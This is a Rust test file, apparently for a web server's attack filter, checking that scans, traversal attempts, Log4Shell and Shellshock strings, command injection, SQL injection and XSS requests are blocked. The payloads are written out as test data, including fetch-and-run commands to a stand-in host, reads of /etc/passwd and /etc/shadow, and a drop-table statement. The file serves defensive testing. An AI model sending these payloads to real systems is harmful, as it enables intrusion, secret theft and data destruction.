//! What attackers ask of a web server.

use super::assert_all;
use super::visit::{BROWSER, MISSING, POST, VISIT, Visit};

#[tokio::test]
async fn scans_and_floods_are_blocked() {
    assert_all(
        [
            Visit { gap: 0, ..MISSING }.many("forty missing pages", 40, |n| format!("/old-admin-{n}.php")),
            Visit { gap: 4, ..MISSING }.many("a slow scan", 200, |n| format!("/p{n}")),
            Visit { status: 403, ..VISIT }.many("refused pages", 60, |n| format!("/admin/{n}")),
            MISSING.of("forgotten files", &["/.env", "/.git/config", "/.aws/credentials"]),
            VISIT.of("forgotten files that are there", &["/.env", "/.git/config", "/.git/HEAD"]),
            MISSING.of("forgotten files in folders", &["/api/.env", "/app/.env", "/old/.git/config"]),
            POST.many("logins to WordPress", 30, |_| "/wp-login.php".to_owned()),
            POST.many("XML-RPC", 60, |_| "/blog/xmlrpc.php".to_owned()),
            Visit::agent("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Visit::agent("Nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
            Visit::agent(
                "nmap",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ),
            Visit::agent("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
            Visit::agent("WPScan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
            Visit::agent("gobuster", "gobuster/3.5"),
        ],
        true,
    )
    .await;
}

#[tokio::test]
async fn one_request_for_a_file_is_enough() {
    let requests = [
        ("traversal", "/../../etc/passwd"),
        ("traversal, encoded", "/a/%2e%2e/%2e%2e/secret"),
        ("traversal, slashes encoded", "/..%2f..%2f..%2fsecret"),
        ("traversal, encoded twice", "/a/%252e%252e%252fsecret"),
        ("traversal, encoded thrice", "/a/%25252e%25252e%25252fsecret"),
        ("traversal, parameters", "/..;/manager/html"),
        ("traversal, overlong", "/%c0%ae%c0%ae/%c0%ae%c0%ae/secret"),
        ("traversal, overlong slash", "/img/..%c0%af..%c0%afsecret"),
        ("traversal, %u", "/%u002e%u002e/%u002e%u002e/etc/pass"),
        ("traversal, nul", "/..%00/..%00/secret"),
        ("traversal, doubled", "/....//....//secret.txt"),
        ("traversal, backslashes", r"/..\\..\\windows\\system.ini"),
        ("traversal, wide slash", "/a/..%ef%bc%8f..%ef%bc%8fsecret"),
        ("traversal, as a proxy", "http://h/../../etc/passwd"),
        ("traversal of CGI", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
        ("traversal of CGI, encoded twice", "/cgi-bin/.%%32%65/.%%32%65/bin/sh"),
        ("query, climbing", "/d?f=../../../../etc/passwd"),
        ("query, climbing in Windows", r"/d?f=..\\..\\windows\\win.ini"),
        ("query, doubled", "/d?f=....//....//secret"),
        ("query, encoded twice", "/d?f=%252e%252e%252fetc%252fpasswd"),
        ("query, nul", "/d?f=/etc/passwd%00.html"),
        ("query, doubled slash", "/d?f=/etc//passwd"),
        ("query, file", "/d?f=file:/etc/group"),
        ("query, file with an empty host", "/d?page=file:///etc/passwd"),
        ("query, PHP filter", "/d?page=php://filter/convert.base64-encode/resource=index"),
    ];
    assert_all(requests.map(|(name, url)| VISIT.of(name, &[url])), true).await;
}

#[tokio::test]
async fn one_request_with_code_is_enough() {
    let requests = [
        ("Log4Shell", "/x?a=$%7Bjndi:ldap://e/a%7D"),
        ("Log4Shell, mixed case", "/x?a=$%7BJnDi:ldap://e/a%7D"),
        ("Log4Shell, lower", "/x?a=$%7B$%7Blower:j%7Dndi:ldap://e/a%7D"),
        ("Log4Shell, empty", "/x?a=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://e/a%7D"),
        ("Log4Shell, env", "/x?a=$%7B$%7Benv:X:-j%7Dndi:ldap://e/a%7D"),
        ("Log4Shell, encoded twice", "/x?a=%2524%257Bjndi:ldap://e%257D"),
        ("Log4Shell in the path", "/$%7Bjndi:ldap://e/a%7D"),
        ("command in place", "/x?ip=$(id)"),
        (
            "command in place, router",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
        ),
        ("command behind a semicolon", "/x?ip=1;wget+http://e/a.sh"),
        ("command behind a bar", "/x?ip=1|cat+/etc/hosts"),
        ("command of a web shell", "/x?c=wget+http://e/a.sh|sh"),
        ("template", "/x?n=%7B%7B7*7%7D%7D"),
        ("template, dollar", "/x?n=$%7B7*7%7D"),
        ("PHPUnit", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        (
            "ThinkPHP",
            r"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
        ),
        ("a shell as CGI", "/cgi-bin/bash"),
    ];
    assert_all(requests.map(|(name, url)| VISIT.of(name, &[url])), true).await;
}

#[tokio::test]
async fn one_header_with_code_is_enough() {
    let header = |name, agent, referrer| Visit { agent, referrer, ..VISIT }.of(name, &["/"]);
    let headers = [
        header("Log4Shell in the agent", "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://e/a}", "-"),
        header("Log4Shell in the agent, upper", "${${upper:j}ndi:ldap://e/a}", "-"),
        header("Log4Shell in the agent, env", "${j${env:NONE:-n}di:ldap://e/f}", "-"),
        header("Log4Shell in the referrer", BROWSER, "${jndi:rmi://e/b}"),
        header("Shellshock", "() { :; }; /bin/bash -c id", "-"),
        header("Shellshock with a tab", "()\\t{ :;}; id", "-"),
        header("Shellshock without blanks", "(){ :;}; id", "-"),
        header("Shellshock in the referrer", BROWSER, "() { :; }; id"),
    ];
    assert_all(headers, true).await;
}

#[tokio::test]
async fn sql_injections_are_blocked() {
    let each = |name, payload: &'static str| VISIT.many(name, 4, move |n| format!("/p?id={payload}&x={n}"));
    assert_all(
        [
            each("a comparison", "'or'1'='1"),
            each("a comparison behind a number", "1+or+1%3D1"),
            each("a comparison behind a bar", "'||1=1"),
            each("a comparison to a comment", "admin'+or+1=1--+-"),
            VISIT.many("the same comparison", 4, |_| "/p?id='or'1'='1".to_owned()),
            each("union", "-1+union+select+null,null"),
            each("union between comments", "1/**/union/**/select/**/1,2"),
            each("union in comments", "1/*!50000union*/+/*!50000select*/+1,2"),
            each("union in other blanks", "1%09uNiOn%0AsElEcT%0D1,2"),
            each("union of a variable", "-1+union+select+@@version+--+-"),
            each("union of brackets", "-1+union+select(1),2"),
            each("union of the different", "-1+union+distinct+select+1,2"),
            each("union of columns", "-1'+union+all+select+user,password+from+users--"),
            VISIT.many("sorting by column", 11, |n| format!("/p?id=1'+order+by+{}--+-", n + 1)),
            each("sorting by many columns", "1+order+by+99--"),
            each("a pause", "1+and+sleep(5)"),
            each("a pause of another database", "1';waitfor+delay+'0:0:5'--"),
            each("a pause in brackets", "(select*from(select(sleep(5)))a)"),
            each("a stacked statement", "1;drop+table+users--"),
            each("a comment", "admin'--"),
            each("an error that tells", "1'+and+extractvalue(1,concat(0x7e,version()))--"),
            each("encoded twice", "1%2527%2520or%25201%253D1"),
            VISIT.of(
                "in the path",
                &[
                    "/p/1'+union+select+1,2--+",
                    "/p/1%20union%20select%201,2,3",
                    "/p/1%20or%201=1",
                    "/p/1%20or%201=2",
                ],
            ),
        ],
        true,
    )
    .await;
}

#[tokio::test]
async fn scripts_and_files_are_blocked() {
    assert_all(
        [
            VISIT.of(
                "script",
                &[
                    "/x?q=<script>alert(1)</script>",
                    "/x?q=<ScRiPt+src=//e/x.js>",
                    "/x?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                ],
            ),
            VISIT.of(
                "handlers",
                &[
                    "/x?q=%3Cimg/src=x+onerror%0a=confirm(1)%3E",
                    "/x?q=%3Cdetails+ontoggle=confirm(1)%3E",
                    "/x?q=%3Cinput+autofocus+onfocus=confirm(1)%3E",
                    "/x?q=<svg/onload=alert(1)>",
                ],
            ),
            VISIT.of(
                "script encoded twice",
                &["/x?a=%253Cscript%253E1", "/x?b=%253Cscript%253E1", "/x?c=%253Cscript%253E1"],
            ),
            VISIT.of(
                "script as an address",
                &["/x?u=javascript:alert(1)", "/x?v=javascript:alert(1)", "/x?w=javascript:alert(1)"],
            ),
            VISIT.of("system files", &["/d?f=/etc/group", "/d?f=/etc/./passwd", "/d?f=/etc/hosts"]),
            VISIT.of(
                "system files through a search box",
                &[
                    "/s?q=../../etc/passwd",
                    "/s?q=../etc/passwd",
                    "/s?q=/etc/shadow",
                    "/s?q=file:///etc/hosts",
                    "/s?q=/proc/self/environ",
                ],
            ),
        ],
        true,
    )
    .await;
}
